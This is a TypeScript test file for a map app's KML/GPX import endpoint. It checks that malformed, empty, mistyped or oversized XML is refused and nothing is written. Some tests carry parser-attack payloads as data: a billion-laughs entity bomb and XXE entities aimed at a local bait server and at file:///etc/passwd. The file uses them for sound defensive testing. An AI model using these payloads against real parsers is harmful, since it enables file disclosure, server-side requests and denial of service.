import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { adminAuth, type TestApp } from '../helpers/app';
import { emptyAtlas, realFile } from './import-real-files.helpers';

// XML that is not a map, broken XML, maps with nothing in them, and XML built to attack the parser:
// each is refused with a problem that says why, and nothing is written.

const KML_NS = 'xmlns="http://www.opengis.net/kml/2.2"';

describe('KML and GPX imports with bad input', () => {
  let t: TestApp;
  // A server the attacks point at: the import must never call it.
  let bait: Server;
  let baitUrl: string;
  let baitRequests = 0;
  beforeAll(async () => {
    t = await emptyAtlas();
    bait = createServer((_req, res) => {
      baitRequests++;
      res.end('<!ENTITY leak "leaked">');
    });
    await new Promise<void>((done) => bait.listen(0, '127.0.0.1', done));
    baitUrl = `http://127.0.0.1:${(bait.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await t.close();
    await new Promise((done) => bait.close(done));
  });

  async function post(payload: Buffer | string, query: Record<string, string> = {}, type = 'text/xml') {
    return t.app.inject({
      method: 'POST',
      url: '/api/imports',
      headers: { ...adminAuth, 'content-type': type },
      query,
      payload,
    });
  }

  // Dry runs of the tests that read a file record an import (and no entry); a refusal records nothing.
  let importsBefore = 0;
  const countImports = async () => (await t.app.db.selectFrom('imports').select('id').execute()).length;
  beforeEach(async () => {
    importsBefore = await countImports();
  });

  async function expectNothingWritten() {
    const entries = await t.app.db.selectFrom('entries').select('id').execute();
    expect({ imports: await countImports(), entries: entries.length }).toEqual({
      imports: importsBefore,
      entries: 0,
    });
  }

  function expectProblem(res: Awaited<ReturnType<typeof post>>, status: number, code?: string) {
    expect(res.statusCode, res.body).toBe(status);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    const body = res.json();
    expect(body.detail).toEqual(expect.any(String));
    if (code) expect(body.code).toBe(code);
    return body.detail as string;
  }

  it('refuses XML that is neither KML nor GPX (a GeoRSS feed from uMap’s fixtures), naming its root', async () => {
    const detail = expectProblem(await post(realFile('umap_test_upload_georss.xml')), 422, 'not-kml-gpx');
    expect(detail).toMatch(/<rss>/);
    await expectNothingWritten();
  });

  it('refuses a web page fetched instead of the data file', async () => {
    const html =
      '<!DOCTYPE html>\n<html><head><title>Ma carte</title></head><body><p>Carte</p></body></html>';
    expectProblem(await post(html), 422, 'not-kml-gpx');
    await expectNothingWritten();
  });

  it('refuses a truncated KML, with the parser’s reason', async () => {
    const whole = realFile('cget-tiers-lieux_my-maps-shape.kml');
    const detail = expectProblem(
      await post(whole.subarray(0, Math.floor(whole.length / 2))),
      422,
      'invalid-xml',
    );
    expect(detail).toMatch(/malformed or truncated/);
    await expectNothingWritten();
  });

  it('refuses mismatched tags', async () => {
    const kml = `<kml ${KML_NS}><Placemark><name>A</nom></Placemark></kml>`;
    expectProblem(await post(kml), 422, 'invalid-xml');
    await expectNothingWritten();
  });

  it('refuses a KML with no placemark, and a GPX with no waypoint, route or track', async () => {
    const kml = `<?xml version="1.0"?><kml ${KML_NS}><Document><name>Vide</name><Folder><name>Calque</name></Folder></Document></kml>`;
    expect(expectProblem(await post(kml), 422, 'no-placemarks')).toMatch(/no placemark/);
    const gpx = '<gpx version="1.1" creator="x"><metadata><name>Vide</name></metadata></gpx>';
    expect(expectProblem(await post(gpx), 422, 'no-placemarks')).toMatch(/no waypoint/);
    await expectNothingWritten();
  });

  it('refuses a file declared as KML that holds GPX, and one declared as GPX that is not XML', async () => {
    const gpx = realFile('umap_test_upload_data.gpx');
    expect(expectProblem(await post(gpx, { format: 'kml' }), 422, 'invalid-kml')).toMatch(/<gpx>/);
    expectProblem(await post('name,lat,lon\nA,45,4\n', { format: 'gpx' }, 'text/csv'), 422, 'invalid-xml');
    await expectNothingWritten();
  });

  it('refuses the billion laughs: no entity is expanded', async () => {
    const levels = Array.from({ length: 9 }, (_, i) => {
      const inner = i === 0 ? 'lol' : `&lol${i - 1};`.repeat(10);
      return `<!ENTITY lol${i} "${inner}">`;
    });
    const kml = `<?xml version="1.0"?>\n<!DOCTYPE kml [${levels.join('')}]>\n<kml ${KML_NS}><Placemark><name>&lol8;</name><Point><coordinates>4.8,45.7</coordinates></Point></Placemark></kml>`;
    const started = performance.now();
    expectProblem(await post(kml), 422, 'xml-entities');
    // Ten to the eighth "lol"s would take seconds and gigabytes; a refusal takes milliseconds.
    expect(performance.now() - started).toBeLessThan(5_000);
    await expectNothingWritten();
  });

  it('refuses external entities, and fetches nothing they point at', async () => {
    const kml = `<?xml version="1.0"?>\n<!DOCTYPE kml [<!ENTITY xxe SYSTEM "${baitUrl}/secret"><!ENTITY % remote SYSTEM "${baitUrl}/evil.dtd">%remote;]>\n<kml ${KML_NS}><Placemark><name>&xxe;</name></Placemark></kml>`;
    expectProblem(await post(kml), 422, 'xml-entities');
    const passwd = `<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><gpx><wpt lat="1" lon="2"><name>&xxe;</name></wpt></gpx>`;
    expectProblem(await post(passwd), 422, 'xml-entities');
    expect(baitRequests).toBe(0);
    await expectNothingWritten();
  });

  it('ignores an external DTD without entities: nothing is fetched, the placemarks are read', async () => {
    const kml = `<?xml version="1.0"?>\n<!DOCTYPE kml SYSTEM "${baitUrl}/kml.dtd">\n<kml ${KML_NS}><Placemark><name>Fablab</name><Point><coordinates>4.8,45.7</coordinates></Point></Placemark></kml>`;
    const res = await post(kml, { dryRun: 'true' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().counts).toMatchObject({ read: 1, create: 1 });
    expect(baitRequests).toBe(0);
  });

  it('reports ground overlays and network links as rows that are not places', async () => {
    const kml = `<kml ${KML_NS}><Document>
<Placemark><name>Atelier</name><Point><coordinates>4.8,45.7</coordinates></Point></Placemark>
<GroundOverlay><name>Plan</name><Icon><href>plan.png</href></Icon><LatLonBox><north>45.8</north><south>45.7</south><east>4.9</east><west>4.8</west></LatLonBox></GroundOverlay>
<NetworkLink><name>Autres lieux</name><Link><href>https://example.org/lieux.kml</href></Link></NetworkLink>
</Document></kml>`;
    const res = await post(kml, { dryRun: 'true' });
    expect(res.statusCode, res.body).toBe(200);
    const record = res.json();
    expect(record.counts).toMatchObject({ read: 3, create: 1, rejected: 2 });
    expect(record.report.rejected).toEqual([
      { row: 2, reason: 'invalid-row', detail: 'a GroundOverlay (an image laid on the map), not a place' },
      {
        row: 3,
        reason: 'invalid-row',
        detail:
          'a NetworkLink: its placemarks live at https://example.org/lieux.kml; import that address itself',
      },
    ]);
  });

  it('refuses a KML larger than the import limit with 413, whatever its media type says', async () => {
    const head = `<kml ${KML_NS}><Document>`;
    const placemark =
      '<Placemark><name>x</name><Point><coordinates>4.8,45.7</coordinates></Point></Placemark>';
    const huge = Buffer.from(head + placemark.repeat(Math.ceil((51 * 1024 * 1024) / placemark.length)));
    const res = await post(huge, {}, 'application/vnd.google-earth.kml+xml');
    expect(expectProblem(res, 413)).toMatch(/50 MB/);
  });
});
